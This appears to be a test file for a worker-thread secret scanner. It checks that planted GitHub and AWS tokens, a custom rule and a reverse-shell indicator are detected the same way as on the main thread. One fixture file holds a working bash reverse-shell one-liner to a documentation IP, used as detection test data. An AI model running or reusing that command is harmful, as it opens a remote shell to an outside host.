import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseSecretConfig } from './secrets/config.js';
import { builtinRules } from './secrets/rules.js';
import { plantedValues } from './secrets/testing/tokens.js';
import { TextScanPool } from './text-pool.js';
import { ruleSpecs, rulesOf, scanTextFile } from './text-scan.js';

describe('text scanning in worker threads', () => {
  const v = plantedValues();
  const custom = parseSecretConfig(
    's.yaml',
    'rules:\n  - {id: acme, regex: "acme_[a-z0-9]{16}", severity: low, keywords: [acme_]}\n',
  );
  const files = [
    {
      path: 'app/.env',
      bytes: Buffer.from(`GITHUB=${v.github}\nAWS_ACCESS_KEY_ID=${v.awsKeyId}\nx=acme_0123456789abcdef\n`),
    },
    { path: 'app/run.sh', bytes: Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n') },
    { path: 'app/example.env', bytes: Buffer.from('password=changeme\n') },
    { path: 'bin/tool', bytes: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1]) },
  ];

  it('gives the same results as scanning on this thread, custom rules included, in file order', async () => {
    const spec = { rules: ruleSpecs(custom.rules), indicators: true };
    const pool = new TextScanPool(spec, 2);
    const viaWorkers = await pool.scan(files);
    const here = files.map((f) => scanTextFile(f.path, f.bytes, rulesOf(spec.rules), true));
    assert.deepEqual(viaWorkers, here);
    assert.deepEqual(
      viaWorkers.map((r) => r.hits.map((h) => h.id)),
      [['github-token', 'aws-access-key-id', 'acme'], ['reverse-shell'], [], []],
    );
    assert.deepEqual(
      viaWorkers[2]?.suppressed.map((s) => s.reason),
      ['placeholder'],
    );
    // The caller's buffers are untouched (the pool sends copies).
    assert.match(files[0]!.bytes.toString(), /^GITHUB=/);
  });

  it('built-in rules cross as ids, so their verifiers keep working (a bad GitHub checksum is dropped)', async () => {
    assert.deepEqual(
      ruleSpecs(builtinRules).every((s) => 'builtin' in s),
      true,
    );
    const pool = new TextScanPool({ rules: ruleSpecs(builtinRules), indicators: false }, 1);
    const bad = `${v.github.slice(0, -1)}${v.github.endsWith('A') ? 'B' : 'A'}`;
    const [r] = await pool.scan([{ path: 'a.txt', bytes: Buffer.from(`token ${bad}\n`) }]);
    assert.deepEqual(r?.hits, []);
  });

  it('a pool without workers scans on this thread', async () => {
    const pool = new TextScanPool({ indicators: true }, 0);
    const [r] = await pool.scan([files[1]!]);
    assert.deepEqual(
      r?.hits.map((h) => h.id),
      ['reverse-shell'],
    );
  });
});
